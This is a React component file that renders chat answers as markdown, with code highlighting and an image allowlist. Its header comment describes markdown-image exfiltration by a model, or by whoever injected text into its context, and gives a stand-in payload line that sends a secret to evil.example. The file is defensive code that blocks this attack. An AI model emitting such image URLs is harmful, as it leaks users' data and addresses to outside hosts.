// Markdown for the native chat: react-markdown with GitHub tables/lists (remark-gfm) and
// highlighted code (Prism, each language's grammar fetched when first needed). No raw
// HTML plugin: HTML in an answer stays text. Loaded lazily, so the start page does not
// pay for it.
//
// Images: an image in an answer is a request the model (or whoever wrote into its context)
// chose; an outside host would learn the reader's address and whatever the URL carries
// (`![x](https://evil.example/?q=<secret>)`). So only our own origin, data:, blob: and
// the `allowedImageSources` the server passes (CHATKIT_ALLOWED_IMAGE_DOMAINS as origins,
// `https://*.example.org` wildcards too) render as <img>; any other image is a link showing
// its text and URL, fetched only if the reader clicks it. The page's CSP (img-src) says
// the same, so the browser would refuse the request anyway.
import React from "react";
import ReactMarkdown from "react-markdown";
import remarkGfm from "remark-gfm";
import SyntaxHighlighter from "react-syntax-highlighter/dist/esm/prism-async-light";
import oneLight from "react-syntax-highlighter/dist/esm/styles/prism/one-light";
import oneDark from "react-syntax-highlighter/dist/esm/styles/prism/one-dark";

const PLUGINS = [remarkGfm];

function isDark(node) {
  return Boolean(node?.closest?.(".dark-theme, .dark"));
}

function Code({ className, children, node, ...rest }) {
  const language = /language-([\w-]+)/.exec(className || "")?.[1];
  const text = String(children ?? "").replace(/\n$/, "");
  const ref = React.useRef(null);
  const [dark, setDark] = React.useState(false);
  React.useEffect(() => setDark(isDark(ref.current)), []);
  if (!language && !text.includes("\n")) {
    return (
      <code className="chat-inline-code" {...rest}>
        {children}
      </code>
    );
  }
  return (
    <span ref={ref} style={{ display: "block" }}>
      <SyntaxHighlighter language={language || "text"} style={dark ? oneDark : oneLight} PreTag="div" wrapLongLines>
        {text}
      </SyntaxHighlighter>
    </span>
  );
}

function originMatches(origin, source) {
  if (source === origin) return true;
  const wildcard = /^(https?:\/\/)\*\.(.+)$/.exec(source);
  if (!wildcard) return false;
  return origin.startsWith(wildcard[1]) && origin.slice(wildcard[1].length).endsWith("." + wildcard[2]);
}

export function imageAllowed(src, allowedSources) {
  let url;
  try {
    url = new URL(src, window.location.href);
  } catch {
    return false;
  }
  if (url.protocol === "data:" || url.protocol === "blob:") return true;
  if (url.origin === window.location.origin) return true;
  return (allowedSources || []).some((source) => originMatches(url.origin, source));
}

function makeComponents(allowedSources) {
  function Image({ src, alt, node, ...rest }) {
    if (src && imageAllowed(src, allowedSources)) return <img src={src} alt={alt} {...rest} />;
    return (
      <a href={src} target="_blank" rel="noopener noreferrer nofollow" data-testid="blocked-image">
        {alt ? `${alt} ` : ""}({String(src ?? "")})
      </a>
    );
  }
  return { code: Code, img: Image };
}

export function ChatMarkdown({ text = "", allowedImageSources = [] }) {
  const key = JSON.stringify(allowedImageSources);
  const components = React.useMemo(() => makeComponents(allowedImageSources), [key]);
  return (
    <div className="chat-markdown">
      <ReactMarkdown remarkPlugins={PLUGINS} components={components}>
        {text}
      </ReactMarkdown>
    </div>
  );
}
